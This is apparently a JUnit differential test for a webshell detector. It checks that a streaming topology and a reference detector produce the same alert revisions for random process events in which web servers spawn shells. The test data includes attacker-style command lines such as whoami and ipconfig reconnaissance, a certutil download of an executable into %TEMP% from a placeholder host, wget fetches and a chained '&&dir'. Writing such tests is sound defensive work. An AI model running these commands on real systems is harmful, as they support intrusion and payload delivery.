package dev.webshell.detector.topology;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.webshell.detector.event.InputDeserializer;
import dev.webshell.detector.event.InputFormat;
import dev.webshell.detector.event.Timestamps;
import dev.webshell.detector.rule.RuleSpec;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Random event streams — interleaved devices, near-misses, repeats, out-of-order and late events,
 * gaps around seven days — through the topology and through {@link ReferenceDetector}: the
 * revisions must be the same, field by field, in the same order.
 */
class DifferentialTest {
  @TempDir Path stateDir;

  static final String[] PARENTS = {
    "w3wp.exe",
    "W3WP.EXE",
    "tomcat8.exe",
    "Tomcat9w.exe",
    "httpd.exe",
    "beasvc.exe",
    "explorer.exe",
    "ws_TomcatService.exe",
    "services.exe",
    null
  };
  static final String[] FILES = {
    "cmd.exe", "CMD.EXE", "powershell.exe", "PowerShell.EXE", "pwsh.exe", "csc.exe", null
  };
  static final String[] LINES = {
    "cmd.exe /c whoami",
    "cmd /c whoami /all",
    "cmd /c ipconfig /all",
    "cmd /c ping -n 1 10.0.0.5",
    "cmd /c ping_sweep.bat",
    "cmd /c mapping.bat",
    "cmd /c certutil -urlcache -f http://x/a %TEMP%\\a.exe",
    "cmd /c copy a %temp%\\b",
    "powershell -c systeminfo",
    "cmd /c timeout /t 3",
    "cmd /c wget64 http://x",
    "cmd /c wget http://x",
    "cmd /c echo hello",
    "cmd /c pinger",
    "cmd /c \"whoami\"&&dir",
    null
  };

  @ParameterizedTest(name = "seed {0}")
  @ValueSource(longs = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12})
  void shouldEmitExactlyTheReferenceRevisions(long seed) {
    Random r = new Random(seed);
    int maxLines = seed % 3 == 0 ? 2 : 128;
    RuleSpec seedRule = RuleSpec.seed();
    RuleSpec rule = seedRule.withBounds(seedRule.lookback(), maxLines, 64, 4096);
    long day = 86_400_000_000L;
    // the detector's clock: somewhere inside the stream's months of event time, so that a part of
    // the stream is dated ahead of it; a few forged events are dated far ahead anywhere
    Instant clockNow = Ev.T0.plus(Duration.ofDays(20 + 15 * seed));
    Duration tolerance = Duration.ofMinutes(seed % 2 == 0 ? 15 : 0);
    long clockLimit = Timestamps.toMicros(clockNow.plus(tolerance));
    ReferenceDetector reference =
        new ReferenceDetector(rule.lookbackMicros(), maxLines, clockLimit);
    List<JsonNode> expected = new ArrayList<>();
    List<JsonNode> actual = new ArrayList<>();
    long now = Timestamps.toMicros(Ev.T0);
    int ahead = 0;
    try (TopologyHarness detector =
        new TopologyHarness(
            rule,
            stateDir,
            new InputDeserializer(InputFormat.AUTO, null),
            DetectorClock.fixedAt(clockNow, tolerance))) {
      for (int i = 0; i < 1500; i++) {
        int step = r.nextInt(100);
        if (step < 70) {
          now += (long) r.nextInt(3_600) * 1_000_000L; // up to an hour
        } else if (step < 80) {
          now += (long) (r.nextDouble() * 2 * day);
        } else if (step < 83) {
          now += 7 * day - r.nextInt(3) * 1_000_000L + r.nextInt(3) * 1_000_000L; // about 7 days
        }
        long ts = now;
        if (r.nextInt(10) == 0) {
          ts = now - (long) (r.nextDouble() * 9 * day); // out of order, sometimes too late
        } else if (r.nextInt(40) == 0) {
          ts = now + (long) (r.nextDouble() * 400 * day); // a wrong clock or a forged event
        }
        if (ts > clockLimit) {
          ahead++;
        }
        Ev e =
            Ev.atMicros(ts)
                .device("dev-" + r.nextInt(6))
                .name(r.nextInt(5) == 0 ? null : "host" + r.nextInt(3) + ".corp.example")
                .file(pick(r, FILES))
                .cmd(pick(r, LINES))
                .initiating(pick(r, PARENTS))
                .parent(pick(r, PARENTS))
                .report(r.nextInt(1000))
                .pid(r.nextInt(60000))
                .account(r.nextBoolean() ? "svc" : null);
        if (r.nextInt(4) != 0) {
          // mostly matching shells under web servers, so that windows fill up
          e.file("cmd.exe").initiating(r.nextBoolean() ? "w3wp.exe" : "tomcat8.exe");
          if (e.cmd == null || r.nextBoolean()) {
            e.cmd(LINES[r.nextInt(LINES.length - 1)]);
          }
        }
        expected.addAll(reference.process(e));
        actual.addAll(detector.send(e));
      }
      expected.addAll(reference.finish());
      actual.addAll(detector.flush());
    }
    assertEquals(expected.size(), actual.size(), "number of revisions");
    for (int i = 0; i < expected.size(); i++) {
      assertEquals(
          expected.get(i).toString(),
          ReferenceDetector.comparable(actual.get(i), expected.get(i)).toString(),
          "revision #" + i);
    }
    assertTrue(ahead > 0, "events dated ahead of the detector's clock");
    assertTrue(
        expected.stream().anyMatch(a -> "closed".equals(a.get("status").asText())),
        "closing revisions");
    assertTrue(
        expected.stream().anyMatch(a -> a.get("aheadOfClock").asBoolean()),
        "revisions marked ahead of the clock");
    System.out.printf(
        "seed %d: %d revisions checked, %d events ahead of the clock%n",
        seed, expected.size(), ahead);
  }

  private static String pick(Random r, String[] values) {
    return values[r.nextInt(values.length)];
  }

  static Duration unused() {
    return Duration.ZERO;
  }
}
